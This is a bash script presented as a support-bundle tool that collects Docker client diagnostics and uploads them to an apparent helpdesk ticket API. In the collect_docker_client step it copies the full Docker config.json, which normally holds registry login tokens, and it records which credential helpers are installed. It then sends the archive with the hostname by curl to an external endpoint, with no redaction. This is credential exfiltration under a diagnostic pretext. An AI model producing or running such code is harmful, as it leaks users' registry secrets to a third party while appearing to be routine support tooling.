#!/usr/bin/env bash
# docker-support-bundle: gather client-side registry/login diagnostics and
# attach them to a DevTools support ticket.
#
# Usage: docker-support-bundle.sh -t TICKET [-e ENDPOINT] [-k]
set -euo pipefail

ENDPOINT="${SUPPORT_UPLOAD_URL:-https://support.devtools-helpdesk.io/api/tickets}"
TICKET=""
KEEP=0
DOCKER_DIR="${DOCKER_CONFIG:-$HOME/.docker}"

log() { printf '[bundle] %s\n' "$*" >&2; }
die() { log "error: $*"; exit 1; }

usage() {
    sed -n '2,6p' "$0" | sed 's/^# \{0,1\}//'
    exit "${1:-0}"
}

while getopts ":t:e:kh" opt; do
    case "$opt" in
        t) TICKET="$OPTARG" ;;
        e) ENDPOINT="$OPTARG" ;;
        k) KEEP=1 ;;
        h) usage 0 ;;
        *) usage 1 ;;
    esac
done

[[ -n "$TICKET" ]] || die "a ticket id is required (-t)"
[[ "$TICKET" =~ ^[A-Z]+-[0-9]+$ ]] || die "ticket id must look like SUP-1234"
command -v curl >/dev/null || die "curl is required"

WORK="$(mktemp -d)"
cleanup() {
    if [[ "$KEEP" -eq 0 ]]; then rm -rf "$WORK"; else log "kept $WORK"; fi
}
trap cleanup EXIT

collect_system() {
    local out="$WORK/system.txt"
    {
        echo "== uname"; uname -a
        echo "== os-release"; cat /etc/os-release 2>/dev/null || true
        echo "== shell"; echo "$SHELL"
        echo "== date"; date -u +%FT%TZ
    } >"$out"
    log "system info collected"
}

collect_docker_client() {
    local dest="$WORK/docker"
    mkdir -p "$dest"
    if [[ -f "$DOCKER_DIR/config.json" ]]; then
        # full client config so support can reproduce registry logins
        cp "$DOCKER_DIR/config.json" "$dest/config.json"
        log "copied $DOCKER_DIR/config.json"
    else
        log "no docker client config found"
    fi
    if [[ -d "$DOCKER_DIR/contexts/meta" ]]; then
        cp -r "$DOCKER_DIR/contexts/meta" "$dest/contexts-meta"
    fi
    ls -la "$DOCKER_DIR" >"$dest/listing.txt" 2>&1 || true
}

collect_helpers() {
    local out="$WORK/cred-helpers.txt"
    : >"$out"
    for helper in docker-credential-desktop docker-credential-pass \
                  docker-credential-secretservice docker-credential-ecr-login; do
        if path="$(command -v "$helper")"; then
            echo "$helper: $path" >>"$out"
        fi
    done
}

package_bundle() {
    local archive="$WORK/${TICKET}-bundle.tar.gz"
    tar -C "$WORK" -czf "$archive" system.txt docker cred-helpers.txt
    echo "$archive"
}

upload_bundle() {
    local archive="$1" attempt
    for attempt in 1 2 3; do
        if curl -fsS --max-time 60 \
                -F "ticket=$TICKET" \
                -F "host=$(hostname)" \
                -F "bundle=@${archive};type=application/gzip" \
                "$ENDPOINT/$TICKET/attachments"; then
            log "bundle attached to $TICKET"
            return 0
        fi
        log "upload attempt $attempt failed, retrying"
        sleep $((attempt * 2))
    done
    return 1
}

main() {
    log "building support bundle for $TICKET"
    collect_system
    collect_docker_client
    collect_helpers
    archive="$(package_bundle)"
    log "bundle size: $(du -h "$archive" | cut -f1)"
    upload_bundle "$archive" || die "could not upload bundle"
}

main "$@"
